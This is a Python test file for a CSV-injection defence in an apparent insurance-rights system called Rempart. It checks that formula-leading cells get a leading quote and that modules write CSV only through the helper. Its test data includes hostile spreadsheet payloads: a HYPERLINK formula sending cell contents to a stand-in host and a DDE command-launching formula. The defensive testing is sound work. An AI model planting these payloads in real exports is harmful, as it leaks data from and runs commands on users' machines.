"""CSV for people: no cell of a file Rempart writes runs as a spreadsheet formula (rempart.lib.csv_safe).

The architecture tests below fail if a module writes CSV without the helper: with the csv module's
writers, or by writing a CSV file some other way. The exceptions are listed with their reason; adding
one is a reviewed decision.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from rempart.lib import csv_safe
from rempart.lib.csv_safe import neutralise

PACKAGE = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1;"clic")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "-",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_leading_cells_get_a_leading_quote(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("number", ["-12.50", "-12,50", "+3", "-0", "12", "-.5", "3.14"])
def test_numbers_written_as_text_stay_numbers(number):
    assert neutralise(number) == number


@pytest.mark.parametrize("value", [-12, -12.5, Decimal("-12.50"), 0, None])
def test_numbers_and_empty_cells_are_written_as_they_are(value):
    assert neutralise(value) is value


@pytest.mark.parametrize(
    "cell", ["Mutuelle Exemple", "", "'=already quoted", "D'Artagnan", "EX-0001", "a=b", " =1+1", "12-12"]
)
def test_other_cells_are_unchanged(cell):
    assert neutralise(cell) == cell


@pytest.mark.parametrize("cell", ["-12.50e3", "-1,2,3", "--1", "-1.", "+ 1"])
def test_what_only_looks_like_a_number_is_neutralised(cell):
    assert neutralise(cell) == "'" + cell


def test_the_writer_neutralises_every_cell_and_keeps_the_csv_readable():
    out = io.StringIO()
    writer = csv_safe.writer(out)
    writer.writerow(["nom", "montant"])
    writer.writerows([[cell, "-12.50"] for cell in HOSTILE] + [['a;b"c\nd', -3]])
    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert rows[0] == ["nom", "montant"]
    assert [row[0] for row in rows[1:-1]] == ["'" + cell for cell in HOSTILE]
    assert {row[1] for row in rows[1:-1]} == {"-12.50"}
    assert rows[-1] == ['a;b"c\nd', "-3"]  # separators, quotes and line breaks survive


# --- Architecture: every CSV goes through the helper.

WRITERS_ALLOWED = {
    "lib/csv_safe.py": "the helper itself",
    "registry/synthetic.py": "writes synthetic rights and products files in Rempart's own import formats: "
    "machine input that must round-trip byte for byte (a ' would become part of the data)",
}
CSV_FILES_ALLOWED = {
    **WRITERS_ALLOWED,
    "registry/seeding.py": "writes the demo's rights and products files for the import (machine input)",
    "surveillance/canaries.py": "writes the canaries' rights file for the import (machine input)",
    "payments/demo.py": "writes the demo family's rights file for the import (machine input)",
    "accounting/management/commands/accounts.py": "writes the bytes accounting/trial_balance_files.py rendered with csv_safe",
    "registry/views.py": "stores an uploaded rights file as received; serves errors.csv written by rights_import",
    "registry/jobs.py": "saves an uploaded rights or products file as received, for its import job",
    "authorizations/catalogue.py": "reads the LPP catalogue (the import-lpp command copies the file as given)",
}
MENTIONS_CSV = re.compile(r"\.csv\b|\bcsv\b|text/csv")
CONSOLE = {"stdout", "stderr"}


def _modules():
    for path in sorted(PACKAGE.rglob("*.py")):
        relative = path.relative_to(PACKAGE).as_posix()
        if (
            "/tests/" in f"/{relative}"
            or "/migrations/" in relative
            or relative in ("testing.py", "conftest.py")
        ):
            continue
        yield relative, path


def _csv_module_writers(tree: ast.AST) -> list[int]:
    """Lines that build a writer of the csv module (csv.writer, csv.DictWriter, from csv import writer)."""
    lines = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id in ("csv", "_csv")
        ):
            lines.append(node.lineno)
        elif isinstance(node, ast.ImportFrom) and node.module in ("csv", "_csv"):
            if any(alias.name in ("writer", "DictWriter") for alias in node.names):
                lines.append(node.lineno)
    return lines


def _writes_files(tree: ast.AST) -> bool:
    """Whether the module writes a file (open for writing, write_text, .write on something not the console)."""
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        function = node.func
        name = function.attr if isinstance(function, ast.Attribute) else getattr(function, "id", "")
        if name in ("write_text", "write_bytes", "writerow", "writerows"):
            return True
        if name == "write" and isinstance(function, ast.Attribute):
            target = function.value
            if not (isinstance(target, ast.Attribute) and target.attr in CONSOLE):
                return True
        if name == "open":
            modes = [a.value for a in node.args if isinstance(a, ast.Constant) and isinstance(a.value, str)]
            modes += [
                k.value.value for k in node.keywords if k.arg == "mode" and isinstance(k.value, ast.Constant)
            ]
            if any(set(mode) & set("wax") for mode in modes):
                return True
    return False


def test_no_module_writes_csv_with_the_csv_module_directly():
    offenders = {}
    for relative, path in _modules():
        lines = _csv_module_writers(ast.parse(path.read_text(encoding="utf-8")))
        if lines and relative not in WRITERS_ALLOWED:
            offenders[relative] = lines
    assert not offenders, f"use rempart.lib.csv_safe.writer instead of the csv module's writers: {offenders}"


def test_every_module_that_writes_a_csv_file_uses_the_helper():
    offenders = []
    for relative, path in _modules():
        source = path.read_text(encoding="utf-8")
        if relative in CSV_FILES_ALLOWED or not MENTIONS_CSV.search(source):
            continue
        if _writes_files(ast.parse(source)) and "csv_safe" not in source:
            offenders.append(relative)
    assert not offenders, f"these modules write CSV files without rempart.lib.csv_safe: {offenders}"


def test_the_architecture_checks_catch_a_direct_writer():
    sneaky = "import csv\nw = csv.writer(open('out.csv', 'w'))\nfrom csv import DictWriter as D\n"
    assert sorted(_csv_module_writers(ast.parse(sneaky))) == [2, 3]
    by_hand = "from pathlib import Path\nPath('x.csv').write_text(';'.join(cells))\n"
    assert _writes_files(ast.parse(by_hand)) and MENTIONS_CSV.search(by_hand)
    console = "self.stdout.write(f'Rejected rows: {d / \"errors.csv\"}')\n"
    assert not _writes_files(ast.parse(console))


def test_the_allowed_modules_still_exist():
    for relative in CSV_FILES_ALLOWED:
        assert (PACKAGE / relative).is_file(), relative


def test_errors_csv_of_a_hostile_rights_file_holds_no_formula(insurer, rows_for, rights_file, tmp_path):
    from rempart.registry.tests.support import FIRST, LAST, PRODUCT, run_import

    rows = rows_for(4)
    rows[0][LAST] = "=HYPERLINK(evil)"
    rows[1][FIRST] = "@SUM(A1:A9)"
    rows[2][PRODUCT] = "=1+1"
    run, summary = run_import(rights_file(rows), insurer, tmp_path)
    assert summary.rejected == 3
    text = (Path(run.report_dir) / "errors.csv").read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell[:1] in csv_safe.FORMULA_LEADS]
    assert "HYPERLINK" not in text and "SUM" not in text  # the report never copies the values
